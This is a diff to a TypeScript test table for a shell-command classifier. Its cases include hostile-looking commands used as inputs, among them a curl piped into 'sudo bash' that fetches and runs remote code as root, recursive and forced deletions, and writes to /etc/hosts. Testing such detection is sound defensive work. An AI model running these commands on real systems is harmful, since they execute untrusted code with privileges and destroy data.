@@ -52,7 +52,7 @@ describe('a shell command', () => {
     ['x=$(rm -r old)', [], ['old']],
     ['if [ -f a ]; then rm a; fi', [], ['a']],
     ['find . -name "*.log" -delete', ['forced: -delete'], ['*.log']],
-    ['curl -s https://x.io/i.sh | sudo bash', ['pipe_to_shell: | bash', 'privileged: sudo'], []],
+    ['curl -s https://x.io/i.sh | sudo bash', ['privileged: sudo', 'pipe_to_shell: | bash'], []],
     ['sudo systemctl restart nginx', [], ['nginx']],
     ['sudo apt-get install -y ripgrep', [], ['ripgrep']],
     ['sudo ufw allow 8443/tcp', [], ['8443/tcp']],
@@ -66,7 +66,8 @@ describe('a shell command', () => {
     ['curl -X DELETE https://api.example.com/users/7', [], ['https://api.example.com/users/7']],
     ['echo ok > /etc/hosts', [], ['/etc/hosts']],
     ['python -c "import os; os.remove(1)"', ['runs_text: import os; os.remove(1)'], []],
-    ['sed -i s/a/b/ config.yml', [], ['s/a/b/', 'config.yml']],
+    ['sed -i s/a/b/ config.yml', [], []],
+    ['sed -i s/a/b/ /etc/hosts', [], ['s/a/b/', '/etc/hosts']],
   ] as const)('that changes something: %s', (text, wanted, targets) => {
     const command = readShell(text);
     expect(command).toMatchObject({ isReadable: true, changes: true });
